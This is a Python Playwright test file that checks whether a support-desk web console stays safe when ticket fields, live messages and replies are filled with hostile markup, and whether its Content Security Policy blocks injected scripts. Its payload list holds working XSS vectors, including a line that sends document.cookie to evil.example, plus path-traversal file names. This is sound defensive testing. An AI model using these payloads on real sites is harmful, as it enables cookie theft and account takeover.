"""Hostile words in every field, in a real Chromium: no script of theirs runs, nothing is fetched, nothing leads out."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

import pytest
from playwright.async_api import Browser, Page, expect

from bridge.domain.events import EventKey, UserFacts, UserWrote
from bridge.domain.words import Attachment, Link
from tests.browser import chromium, sign_in
from tests.console.conftest import SHOP, Site

pytestmark = pytest.mark.browser

RUN = "window.pwned=1;fetch('https://evil.example/'+document.cookie)"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"' autofocus onfocus='{RUN}' x='",
    f"</textarea></title></style><svg/onload={RUN}>",
    f"[press me](javascript:{RUN}) ![seen](https://evil.example/pixel.png) <javascript:{RUN}>",
    f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="javascript:{RUN}"></object>',
    f'<a href="java&#9;script:{RUN}">x</a><form action="https://evil.example/"><button>y</button></form>',
    f'<div hx-get="https://evil.example/" hx-trigger="load" hx-on:load="{RUN}" data-hx-on-load="{RUN}">z</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    "<style>@import 'https://evil.example/a.css';</style><link rel=stylesheet href=https://evil.example/b.css>",
    "{{constructor.constructor('" + RUN.replace("'", "\\'") + "')()}}${" + RUN + "}<% " + RUN + " %>",
)
OUTSIDE = """() => [...document.querySelectorAll('a[href], form[action], img[src], iframe, object, embed, base, meta')]
  .map((node) => node.getAttribute('href') || node.getAttribute('action') || node.getAttribute('src') || node.tagName)
  .filter((where) => /^\\s*(javascript|data|vbscript):/i.test(where) || /^(IFRAME|OBJECT|EMBED|BASE)$/.test(where))"""
HANDLERS = """() => [...document.querySelectorAll('*')].filter((node) => [...node.attributes]
  .some((at) => /^on/i.test(at.name) || /^(data-)?hx-on/i.test(at.name))).map((node) => node.outerHTML.slice(0, 200))"""


@dataclass
class Watched:
    """A member's window, and what happened in it that must not."""

    page: Page
    base: str
    trouble: list[str] = field(default_factory=list)

    async def is_unharmed(self) -> None:
        assert await self.page.evaluate("typeof window.pwned") == "undefined"
        assert await self.page.evaluate(OUTSIDE) == []
        assert await self.page.evaluate(HANDLERS) == []
        assert self.page.url.startswith(self.base)
        assert self.trouble == []


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    async with chromium() as running:
        yield running


@asynccontextmanager
async def watched(browser: Browser, site: Site) -> AsyncIterator[Watched]:
    context = await browser.new_context()
    page = await context.new_page()
    window = Watched(page, site.base)
    page.on("dialog", lambda dialog: window.trouble.append(f"dialog: {dialog.message}"))
    page.on("popup", lambda other: window.trouble.append(f"popup: {other.url}"))
    page.on("pageerror", lambda error: window.trouble.append(f"error: {error}"))
    page.on("console", lambda said: window.trouble.append(said.text) if said.type == "error" else None)
    page.on("request", lambda asked: None if asked.url.startswith((site.base, "data:")) else
            window.trouble.append(f"request: {asked.url}"))  # fmt: skip
    await sign_in(page, f"{site.base}/sign-in/{await site.store.sessions.invite('Ana')}")
    try:
        yield window
    finally:
        await context.close()


async def attacked(site: Site) -> int:
    """A ticket with a payload in every field a stranger fills, and all of them in its words."""
    number = 0
    for at, payload in enumerate(PAYLOADS):
        ticket = await site.escalate(
            payload,
            user=UserFacts(external_id=f"u{at}", name=payload, locale=payload, timezone=payload, email=payload),
            description=payload, summary=payload, reason_code=payload, reason_text=payload, channel=payload,
            language=payload, tags=PAYLOADS, attributes=dict.fromkeys(PAYLOADS, payload), said=PAYLOADS,
            links=tuple(Link(title=each, url=f"javascript:{RUN}") for each in PAYLOADS), metadata=payload,
        )  # fmt: skip
        number = ticket.number
    files = tuple(Attachment(name=each, url=f"javascript:{RUN}") for each in PAYLOADS[:5])
    files += tuple(Attachment(name=f"../../{each}\0.svg", url=f"data:text/html,{each}") for each in PAYLOADS[5:])
    await site.desk.handle(
        UserWrote(
            bot=SHOP, key=EventKey("bot:shop-bot", "hostile"), fingerprint="f", at=site.clock.now(),
            ticket=ticket.id, text="\n\n".join(PAYLOADS), attachments=files,
        )
    )  # fmt: skip
    return number


async def test_hostile_words_stay_words_on_every_page(site: Site, browser: Browser) -> None:
    number = await attacked(site)
    async with watched(browser, site) as ana:
        for path in (f"/t/{number}", "/", f"/t/{number}/log", "/?q=%3Cscript%3E", f"/t/{number}?s=open"):
            await ana.page.goto(site.base + path)
            await ana.page.wait_for_load_state("networkidle" if path.endswith("log") else "load")
            await ana.is_unharmed()


async def test_hostile_words_stay_words_when_they_come_by_the_live_stream_and_by_ones_own_hand(
    site: Site, browser: Browser
) -> None:
    ticket = await site.escalate()
    async with watched(browser, site) as ana:
        await ana.page.goto(f"{site.base}/t/{ticket.number}")
        await expect(ana.page.locator("#pulse")).to_have_attribute("data-live", "on")
        for at, payload in enumerate(PAYLOADS):
            await site.user_says(ticket, f"{payload} live{at}")
        await expect(ana.page.locator("#pane")).to_contain_text(f"live{len(PAYLOADS) - 1}")
        await ana.is_unharmed()
        await ana.page.locator("textarea[name=text]").first.fill("\n".join(PAYLOADS) + " mine")
        await ana.page.keyboard.press("Control+Enter")
        await expect(ana.page.locator("#pane .said.mine")).to_contain_text("mine")
        await ana.is_unharmed()


async def test_even_markup_that_got_in_could_neither_run_nor_fetch(site: Site, browser: Browser) -> None:
    """The second wall: what the page's policy stops when the first one, escaping, is climbed."""
    async with watched(browser, site) as ana:
        await ana.page.evaluate(
            """(payloads) => {
              for (const payload of payloads) {
                const place = document.createElement('div');
                place.innerHTML = payload;
                document.body.append(place);
                const script = document.createElement('script');
                script.textContent = 'window.pwned = 1';
                document.body.append(script);
                const far = document.createElement('script');
                far.src = 'https://evil.example/far.js';
                document.body.append(far);
              }
            }""",
            [each for each in PAYLOADS if "refresh" not in each],
        )
        frame = await ana.page.evaluate("document.querySelectorAll('body > div iframe').length")
        assert frame > 0  # it did get in
        await ana.page.wait_for_timeout(300)
        assert await ana.page.evaluate("typeof window.pwned") == "undefined"
        assert [said for said in ana.trouble if said.startswith(("dialog", "popup"))] == []
        assert [said for said in ana.trouble if "Content Security Policy" in said or "violates" in said]
